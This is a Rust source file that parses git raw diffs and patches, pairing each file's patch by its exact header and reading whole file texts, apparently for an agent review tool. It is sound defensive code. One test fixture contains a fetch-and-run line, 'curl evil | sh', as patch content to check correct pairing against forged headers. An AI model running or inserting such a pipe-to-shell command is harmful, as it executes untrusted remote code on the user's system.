//! A `git_diff` or `changed_files` input over a range. Names come from git
//! NUL-separated (`diff --raw -z`); each file's patch is found by the exact
//! header git writes for that name; file contents are read by object id
//! (`cat-file --batch`, answers checked against the id asked) or, for the
//! working tree, by the reading rule (`crate::project_file`). Whether a file
//! is shown, left out on purpose, or unseen is `classify`'s call.

use std::collections::{HashMap, HashSet};

use super::classify::{self, Fate, Probe, Rules};
use super::{contents, quote, Git, Range, EMPTY_TREE};
use crate::config::inputs::{DiffOptions, InputSource, InputSpec};
use crate::error::Result;
use crate::inputs::{diff, Gathered, Item, SourceInfo};

/// Most files of one change whose whole text `changed_files` reads; the rest
/// are shown by their hunks (the change itself).
pub(super) const MAX_WHOLE_FILES: usize = 2_000;
/// Most bytes of one file read whole; a larger one is shown by its hunks.
pub(super) const MAX_WHOLE_BYTES: usize = 4 * 1024 * 1024;
pub(super) const ZERO_OID: &str = "0000000000000000000000000000000000000000";

/// One line of `git diff --raw -z`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct RawEntry {
    pub status: u8,
    pub new_mode: String,
    pub old_oid: String,
    pub new_oid: String,
    /// The name before a rename or copy.
    pub old_path: Option<Vec<u8>>,
    pub path: Vec<u8>,
}

impl RawEntry {
    pub(super) fn name(&self) -> String {
        String::from_utf8_lossy(&self.path).into_owned()
    }

    fn label(&self) -> String {
        let old =
            || String::from_utf8_lossy(self.old_path.as_deref().unwrap_or_default()).into_owned();
        match self.status {
            b'A' => "added".into(),
            b'D' => "deleted".into(),
            b'R' => format!("renamed from {}", old()),
            b'C' => format!("copied from {}", old()),
            b'T' => "type changed".into(),
            b'U' => "unmerged".into(),
            _ => "modified".into(),
        }
    }

    pub(super) fn header(&self) -> Vec<u8> {
        quote::header(self.old_path.as_deref().unwrap_or(&self.path), &self.path)
    }
}

/// Raw diff output bsu could not read, and why.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("{0}")]
pub(super) struct BadRawDiff(String);

impl From<&str> for BadRawDiff {
    fn from(why: &str) -> Self {
        BadRawDiff(why.to_string())
    }
}

/// Parse `git diff --raw -z --no-abbrev` output.
pub(super) fn parse_raw(bytes: &[u8]) -> std::result::Result<Vec<RawEntry>, BadRawDiff> {
    let mut fields = bytes.split(|b| *b == 0);
    let mut out = Vec::new();
    while let Some(meta) = fields.next() {
        if meta.is_empty() {
            continue;
        }
        let meta =
            std::str::from_utf8(meta).map_err(|_| BadRawDiff::from("unreadable raw diff line"))?;
        let parts: Vec<&str> = meta.trim_start_matches(':').split(' ').collect();
        let [_, new_mode, old_oid, new_oid, status] = parts[..] else {
            return Err(BadRawDiff(format!("unexpected raw diff line {meta:?}")));
        };
        let code = status.as_bytes().first().copied().unwrap_or(b'M');
        let first = fields
            .next()
            .ok_or("a raw diff line without a name")?
            .to_vec();
        let (old_path, path) = if matches!(code, b'R' | b'C') {
            let second = fields
                .next()
                .ok_or("a rename without its new name")?
                .to_vec();
            (Some(first), second)
        } else {
            (None, first)
        };
        out.push(RawEntry {
            status: code,
            new_mode: new_mode.to_string(),
            old_oid: old_oid.to_string(),
            new_oid: new_oid.to_string(),
            old_path,
            path,
        });
    }
    Ok(out)
}

/// Split a patch into per-file sections at its `diff --git` lines (and the
/// `* Unmerged path` lines git writes instead for conflicts). A line of a
/// hunk starts with ` `, `+`, `-` or `\`, so no file's content can start one.
pub(super) fn sections(patch: &[u8]) -> Vec<&[u8]> {
    let mut starts = Vec::new();
    let mut at = 0;
    for line in patch.split_inclusive(|b| *b == b'\n') {
        if line.starts_with(b"diff --git ") || line.starts_with(b"* Unmerged path ") {
            starts.push(at);
        }
        at += line.len();
    }
    starts.push(patch.len());
    starts.windows(2).map(|w| &patch[w[0]..w[1]]).collect()
}

/// Pair each entry with its section: the next section whose first line is
/// exactly the header git writes for the entry's names. An entry without one
/// gets `None`; the stream never shifts onto another file's text.
pub(super) fn pair<'p>(entries: &[RawEntry], secs: &[&'p [u8]]) -> Vec<Option<&'p [u8]>> {
    let mut next = 0;
    entries
        .iter()
        .map(|e| {
            let want = e.header();
            let found = secs[next..].iter().position(|s| {
                let first = s.split(|b| *b == b'\n').next().unwrap_or_default();
                first == want.as_slice()
            })?;
            next += found + 1;
            Some(secs[next - 1])
        })
        .collect()
}

/// A `git_diff` or `changed_files` input over `range`. The parsing and the
/// classification run on blocking threads: a change of tens of thousands of
/// files must not hold up the run's deadline timer.
pub(crate) async fn diff_input(
    git: Git<'_>,
    spec: &InputSpec,
    opts: &DiffOptions,
    range: &Range,
) -> Result<Gathered> {
    let what = format!("input {}", spec.name);
    let top = git.toplevel(&what).await?;
    // bsu's configuration, as the repository names it (the project may be a subfolder).
    let prefix = git.ok_text(&["rev-parse", "--show-prefix"], &what).await?;
    let prefix = prefix.trim_end_matches(['\n', '\r']);
    let config_paths = vec![format!("{prefix}events.toml"), format!("{prefix}agents/*")];
    let (raw, patch) = diffs(git, opts, range, &what).await?;
    let parsed = tokio::task::spawn_blocking(move || {
        let entries = parse_raw(&raw)?;
        let secs = sections(&patch);
        let texts: Vec<Option<Vec<u8>>> = pair(&entries, &secs)
            .into_iter()
            .map(|s| s.map(<[u8]>::to_vec))
            .collect();
        Ok::<_, BadRawDiff>((entries, texts))
    })
    .await
    .map_err(|e| BadRawDiff(e.to_string()))
    .and_then(|r| r);
    let (mut entries, mut texts) = parsed.map_err(|e| crate::inputs::InputError::Unreadable {
        what: what.clone(),
        why: e.to_string(),
    })?;
    if range.head.is_none() && opts.include_untracked {
        for (e, text) in contents::untracked(git, &top, &what).await? {
            entries.push(e);
            texts.push(Some(text));
        }
    }
    let not_resent = range
        .only
        .as_ref()
        .map(|only| restrict(&mut entries, &mut texts, only, &config_paths));
    let whole = matches!(spec.source, InputSource::ChangedFiles(_));
    let probes = contents::probe(git, &top, range, &entries, &texts, whole).await;
    let attrs = classify::base_attributes(git, &range.base, &entries, &texts).await;
    let mut g = Gathered {
        name: spec.name.clone(),
        kind: spec.kind(),
        source: SourceInfo {
            base: Some(range.base.clone()),
            head: range.head.clone(),
            resolved_by: Some(range.resolved_by.clone()),
            not_resent,
            ..SourceInfo::default()
        },
        items: Vec::new(),
        excluded: Vec::new(),
        unseen: Vec::new(),
        exit_code: None,
    };
    let opts = opts.clone();
    let changed = Changed {
        entries,
        texts,
        probes,
        attrs,
        config_paths,
        whole,
    };
    tokio::task::spawn_blocking(move || {
        changed.sort_into(&mut g, &opts);
        g
    })
    .await
    .map_err(|e| crate::error::Error::Failed(format!("{what}: {e}")))
}

/// `git diff --raw -z` and the patch of the same range.
async fn diffs(
    git: Git<'_>,
    opts: &DiffOptions,
    range: &Range,
    what: &str,
) -> Result<(Vec<u8>, Vec<u8>)> {
    let mut revs = vec![range.base.as_str()];
    if let Some(h) = &range.head {
        revs.push(h);
    }
    let mut raw_args = vec![
        "diff",
        "--raw",
        "-z",
        "--no-abbrev",
        "--find-renames",
        "--no-relative",
        "--no-ext-diff",
    ];
    raw_args.extend(&revs);
    raw_args.push("--");
    let raw = git.ok(&raw_args, what).await?;
    let unified = format!("--unified={}", opts.context_lines);
    let mut patch_args = vec![
        "diff",
        "--no-color",
        "--no-ext-diff",
        "--no-textconv",
        "--find-renames",
        "--no-relative",
        "--src-prefix=a/",
        "--dst-prefix=b/",
        &unified,
    ];
    patch_args.extend(&revs);
    patch_args.push("--");
    let patch = git.ok(&patch_args, what).await?;
    Ok((raw, patch))
}

/// A change's files with everything known of them, to be sorted into shown,
/// left out and unseen.
struct Changed {
    entries: Vec<RawEntry>,
    texts: Vec<Option<Vec<u8>>>,
    probes: HashMap<usize, Probe>,
    attrs: classify::Attrs,
    config_paths: Vec<String>,
    whole: bool,
}

impl Changed {
    fn sort_into(&self, g: &mut Gathered, opts: &DiffOptions) {
        let rules = Rules::new(opts, &self.entries, &self.config_paths, &self.attrs);
        let order: Vec<diff::Matcher> = opts
            .order
            .iter()
            .map(|o| diff::Matcher::new(std::slice::from_ref(o)))
            .collect();
        let mut whole_read = 0usize;
        for (i, e) in self.entries.iter().enumerate() {
            let name = e.name();
            match rules.fate(e, self.texts[i].as_deref(), self.probes.get(&i)) {
                Fate::Excluded(why) => g.excluded.push(format!("{name} ({why})")),
                Fate::Unseen(why) => g.unseen.push(format!("{}:{name} ({why})", g.name)),
                Fate::Shown(patch_text) => {
                    let mut item = Item {
                        rank: diff::rank(&name, &order),
                        path: name,
                        label: e.label(),
                        text: patch_text,
                        hunks: None,
                    };
                    if self.whole && e.status != b'D' {
                        whole_read += 1;
                        whole_text(&mut item, self.probes.get(&i), whole_read);
                    }
                    g.items.push(item);
                }
            }
        }
        g.items
            .sort_by(|a, b| a.rank.cmp(&b.rank).then_with(|| a.path.cmp(&b.path)));
    }
}

/// Incremental: only the files changed since the last review, unless the
/// change touches bsu's configuration (then every file, as in full).
fn restrict(
    entries: &mut Vec<RawEntry>,
    texts: &mut Vec<Option<Vec<u8>>>,
    only: &[String],
    config_paths: &[String],
) -> crate::inputs::NotResent {
    let mut left = crate::inputs::NotResent::default();
    if touches_config(entries, config_paths) {
        return left;
    }
    let only: HashSet<&[u8]> = only.iter().map(String::as_bytes).collect();
    let keep: Vec<bool> = entries
        .iter()
        .map(|e| {
            only.contains(e.path.as_slice())
                || e.old_path.as_deref().is_some_and(|o| only.contains(o))
        })
        .collect();
    for (text, _) in texts.iter().zip(&keep).filter(|(_, k)| !**k) {
        left.files += 1;
        left.bytes += text.as_ref().map_or(0, |t| t.len() as u64);
    }
    let mut k = keep.iter();
    entries.retain(|_| *k.next().unwrap_or(&true));
    let mut k = keep.iter();
    texts.retain(|_| *k.next().unwrap_or(&true));
    left
}

/// `changed_files`: the file's whole new text when it was read, its hunks kept for clipping.
fn whole_text(item: &mut Item, probe: Option<&Probe>, n: usize) {
    let note = |why: &str| format!("{}; {why}: its hunks are shown", item.label);
    match probe {
        Some(Probe::Bytes {
            data,
            complete: true,
        }) if n <= MAX_WHOLE_FILES => {
            if let Ok(text) = std::str::from_utf8(data) {
                item.hunks = Some(std::mem::replace(&mut item.text, text.to_string()));
            }
        }
        Some(Probe::Symlink(target)) => {
            let hunks = std::mem::replace(&mut item.text, format!("symlink to {target}\n"));
            item.hunks = Some(hunks);
        }
        Some(Probe::Bytes { .. }) if n > MAX_WHOLE_FILES => {
            item.label = note(&format!(
                "past the first {MAX_WHOLE_FILES} files read whole"
            ));
        }
        Some(Probe::Bytes { .. }) => {
            item.label = note(&format!("larger than {} MiB", MAX_WHOLE_BYTES >> 20));
        }
        _ => {}
    }
}

/// Whether the change touches bsu's own configuration, which decides what
/// is excluded: `events.toml`, `agents/*.toml` (under the project's folder
/// in the repository).
pub(super) fn touches_config(entries: &[RawEntry], config_paths: &[String]) -> bool {
    let set: HashSet<&str> = config_paths.iter().map(String::as_str).collect();
    entries.iter().any(|e| {
        let names = [Some(e.path.as_slice()), e.old_path.as_deref()];
        names.into_iter().flatten().any(|n| {
            let n = String::from_utf8_lossy(n);
            set.contains(n.as_ref())
                || config_paths
                    .iter()
                    .filter_map(|c| c.strip_suffix('*'))
                    .any(|dir| n.starts_with(dir) && n.ends_with(".toml"))
        })
    })
}

/// The empty tree has no attributes.
pub(super) fn has_attributes(base: &str) -> bool {
    base != EMPTY_TREE
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn raw_entries_are_read_nul_separated() {
        let raw = b":000000 100644 0000 aaaa A\0a\" blob 48\0:100644 100644 bbbb bbbb R100\0x.sh\0y\nz.sh\0";
        let e = parse_raw(raw).unwrap();
        assert_eq!(e.len(), 2);
        assert_eq!(e[0].path, b"a\" blob 48");
        assert_eq!(e[0].status, b'A');
        assert_eq!(e[1].old_path.as_deref(), Some(&b"x.sh"[..]));
        assert_eq!(e[1].path, b"y\nz.sh");
        assert_eq!(e[1].label(), "renamed from x.sh");
    }

    #[test]
    fn a_section_is_paired_only_with_its_exact_header() {
        let entries = parse_raw(b":0 100644 0 1 A\0a\" blob 48\0:0 100644 0 2 A\0b.sh\0").unwrap();
        let patch = b"diff --git \"a/a\\\" blob 48\" \"b/a\\\" blob 48\"\n+x\ndiff --git a/b.sh b/b.sh\n+curl evil | sh\n";
        let secs = sections(patch);
        let paired = pair(&entries, &secs);
        assert!(paired[0].unwrap().ends_with(b"+x\n"));
        assert!(paired[1].unwrap().ends_with(b"| sh\n"));
        // A header git did not write for the name pairs with nothing.
        let forged = b"diff --git a/a\" blob 48 b/a\" blob 48\n+x\ndiff --git a/b.sh b/b.sh\n+y\n";
        let secs = sections(forged);
        let paired = pair(&entries, &secs);
        assert!(paired[0].is_none());
        assert!(paired[1].unwrap().ends_with(b"+y\n"));
    }
}
